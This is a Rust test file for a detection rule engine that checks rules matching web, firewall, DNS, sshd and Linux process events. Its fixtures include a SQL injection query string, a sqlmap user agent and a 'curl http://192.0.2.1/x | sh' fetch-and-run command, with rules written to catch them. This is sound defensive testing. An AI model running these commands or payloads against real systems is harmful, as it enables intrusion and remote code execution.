//! Events that are not Windows': which a rule sees, and where its fields stand.

use schema::{Action, Column, EventBatch};

use crate::events::{batch, process_rule, rows, set_of};

fn requests() -> EventBatch {
    let requests = [
        ("GET", "/modulo.php", Some("id=1%27+OR+1=1"), 200, "Mozilla/5.0"),
        ("POST", "/upload.ashx", None, 403, "sqlmap/1.8"),
        ("GET", "/", None, 404, "curl/8.0"),
    ];
    batch("web_access", requests.len(), move |builder, row| {
        let (method, path, query, status, agent) = requests[row];
        builder.action(Action::HttpRequest);
        builder.text(Column::HttpRequestMethod, method);
        builder.text(Column::UrlPath, path);
        if let Some(query) = query {
            builder.text(Column::UrlQuery, query);
        }
        builder.int(Column::HttpResponseStatusCode, status);
        builder.text(Column::UserAgentOriginal, agent);
        builder.ip(Column::SourceIp, "203.0.113.9");
        builder.text(Column::Message, &format!("{method} {path} {agent}"));
    })
}

fn web_rule(detection: &str) -> String {
    format!("title: R\nlogsource: {{category: webserver}}\ndetection: {{{detection}, condition: s}}")
}

#[test]
fn web_rules_find_w3c_names_in_our_columns() {
    let is = |detection: &str, expected: &[u32]| {
        assert_eq!(rows(&set_of(&web_rule(detection)), &requests()), expected, "{detection}");
    };
    is("s: {cs-method: GET, cs-uri-stem|endswith: .php}", &[0]);
    is("s: {cs-uri-query|contains: '%27'}", &[0]);
    is("s: {cs-uri-query: null}", &[1, 2]);
    is("s: {c-uri: '/modulo.php?id=*'}", &[0]);
    is("s: {sc-status: [403, 404]}", &[1, 2]);
    is("s: {sc-status|gte: 400, c-useragent|startswith: SQLMAP}", &[1]);
    is("s: {cs-user-agent|contains: curl, c-ip|cidr: 203.0.113.0/24}", &[2]);
    is("s: {c-uri-extension: [ashx, php]}", &[0, 1]);
    is("s: [sqlmap, modulo]", &[0, 1]);
    is("s: {source_ip: 203.0.113.9, http.request.method: POST}", &[1]);
}

#[test]
fn a_rule_sees_no_events_of_another_log_source() {
    for source in ["{category: proxy}", "{category: dns}", "{product: linux}", "{service: sshd}"] {
        let rule = format!("title: R\nlogsource: {source}\ndetection: {{s: [sqlmap], condition: s}}");
        assert!(rows(&set_of(&rule), &requests()).is_empty(), "{source}");
    }
    let rule = "title: R\nlogsource: {service: apache}\ndetection: {s: [sqlmap], condition: s}";
    assert_eq!(rows(&set_of(rule), &requests()), [1]);
    let windows = "title: R\nlogsource: {product: windows}\ndetection: {s: {cs-method: POST}, condition: s}";
    assert!(rows(&set_of(windows), &requests()).is_empty());
}

#[test]
fn linux_processes_have_sysmons_names() {
    let events = batch("auditd", 2, |builder, row| {
        builder.action(Action::ProcessStart);
        builder.text(Column::ProcessExecutable, ["/usr/bin/curl", "/usr/bin/ls"][row]);
        builder.text(Column::ProcessCommandLine, ["curl http://192.0.2.1/x | sh", "ls -la"][row]);
        builder.text(Column::UserName, "anna");
    });
    let rule = process_rule(
        "  s: {Image|endswith: /curl, CommandLine|contains: '| sh', User: anna}\n  condition: s",
    );
    let rule = rule.replace("product: windows", "product: linux");
    assert_eq!(rows(&set_of(&rule), &events), [0]);
    let any_product = rule.replace("  product: linux\n", "");
    assert_eq!(rows(&set_of(&any_product), &events), [0]);
}

#[test]
fn a_family_of_formats_is_not_every_format_that_begins_so() {
    let rule = "title: R\nlogsource: {product: linux}\ndetection: {s: [prova], condition: s}";
    for (format, expected) in [("su", 1), ("suricata_eve", 0), ("systemd", 1), ("cisco_asa", 0)] {
        let events = batch(format, 1, |builder, _| {
            builder.action(Action::Login);
            builder.text(Column::Message, "una prova");
        });
        assert_eq!(rows(&set_of(rule), &events).len(), expected, "{format}");
    }
    let cisco = "title: R\nlogsource: {product: cisco, service: aaa}\ndetection: {s: [prova], condition: s}";
    let events = batch("cisco_ios", 1, |builder, _| {
        builder.action(Action::Login);
        builder.text(Column::Message, "una prova");
    });
    assert_eq!(rows(&set_of(cisco), &events), [0]);
}

#[test]
fn firewall_and_dns_rules_find_their_names() {
    let flows = batch("fortigate", 2, |builder, row| {
        builder.action([Action::ConnectionAllowed, Action::ConnectionDenied][row]);
        builder.ip(Column::SourceIp, "198.51.100.4");
        builder.int(Column::DestinationPort, [22, 445][row]);
        builder.field("action", ["accept", "deny"][row]);
    });
    let rule = "title: R\nlogsource: {category: firewall}\n\
                detection: {s: {dst_port: [22, 445], action: accept, src_ip|cidr: 198.51.100.0/24}, condition: s}";
    assert_eq!(rows(&set_of(rule), &flows), [0]);
    let queries = batch("bind", 2, |builder, row| {
        builder.action(Action::DnsQuery);
        builder.text(Column::DnsQuestionName, ["a.evil.example", "www.comune.example"][row]);
    });
    let rule =
        "title: R\nlogsource: {category: dns}\ndetection: {s: {query|endswith: .evil.example}, condition: s}";
    assert_eq!(rows(&set_of(rule), &queries), [0]);
}

#[test]
fn sshd_rules_search_messages_of_sshd() {
    let lines = ["error: buffer_get_ret: trying to get more bytes", "Accepted publickey for anna"];
    let events = batch("openssh", 2, |builder, row| {
        builder.action(Action::Login);
        builder.text(Column::ProcessName, "sshd");
        builder.text(Column::Message, lines[row]);
    });
    for source in ["{product: linux, service: sshd}", "{product: linux}", "{product: linux, service: auth}"] {
        let rule = format!("title: R\nlogsource: {source}\ndetection: {{s: [BUFFER_get], condition: s}}");
        assert_eq!(rows(&set_of(&rule), &events), [0], "{source}");
    }
    let cron = "title: R\nlogsource: {product: linux, service: cron}\ndetection: {s: [bytes], condition: s}";
    assert!(rows(&set_of(cron), &events).is_empty());
}
